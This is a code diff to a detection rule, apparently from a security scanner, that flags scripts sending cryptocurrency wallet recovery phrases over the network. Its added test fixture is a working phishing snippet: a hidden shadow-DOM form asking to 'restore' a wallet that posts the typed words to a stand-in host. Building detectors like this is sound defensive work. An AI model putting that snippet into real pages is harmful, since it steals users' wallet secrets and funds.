@@ -1,7 +1,7 @@
 import { constant, listOf, nameOf, Op, readsNamed, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
-import { checkScripts } from './checkScripts.ts';
-import { mentions } from './network.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { mentions, textsOf } from './network.ts';
 import { leavesBy } from './sendings.ts';
 import { few } from './usage.ts';
 
@@ -30,7 +30,8 @@ export const walletPhraseSent = defineRule({
       ),
     );
     const named = new Set([...typed].filter((value) => isPhrase(script, script.a[value] as number)));
-    const whole = leavesBy(script, named, ['network']);
+    // Where its own markup asks for the words, any field may be the one for them.
+    const whole = leavesBy(script, asksForWords(script) ? typed : named, ['network']);
     if (whole !== undefined) {
       yield hit(whole.value, { confidence: 'high', message: `It goes to ${whole.to}.` });
       return;
@@ -45,6 +46,9 @@ export const walletPhraseSent = defineRule({
   }),
   examples: {
     bad: [
+      contentExample(
+        'const box = host.attachShadow({ mode: "closed" }); box.innerHTML = "<form><h3>Wallet needs to be restored</h3><textarea placeholder=\\"12 or 24 words\\"></textarea></form>"; box.querySelector("form").onsubmit = () => fetch("https://x.example/w", { method: "POST", body: box.querySelector("textarea").value }); document.body.append(host);',
+      ),
       {
         files: {
           'manifest.json':
@@ -95,6 +99,11 @@ export const walletPhraseSent = defineRule({
     ],
   },
 });
+
+/** Whether fields are made with words beside them that ask for a wallet's secret. */
+function asksForWords(script: ScriptFacts): boolean {
+  return textsOf(script).some(({ text }) => /<(?:textarea|input)\b/i.test(text) && WORDS.test(text));
+}
 
 function isPhrase(script: ScriptFacts, value: number): boolean {
   if (PHRASE.test(nameOf(script, value))) return true;
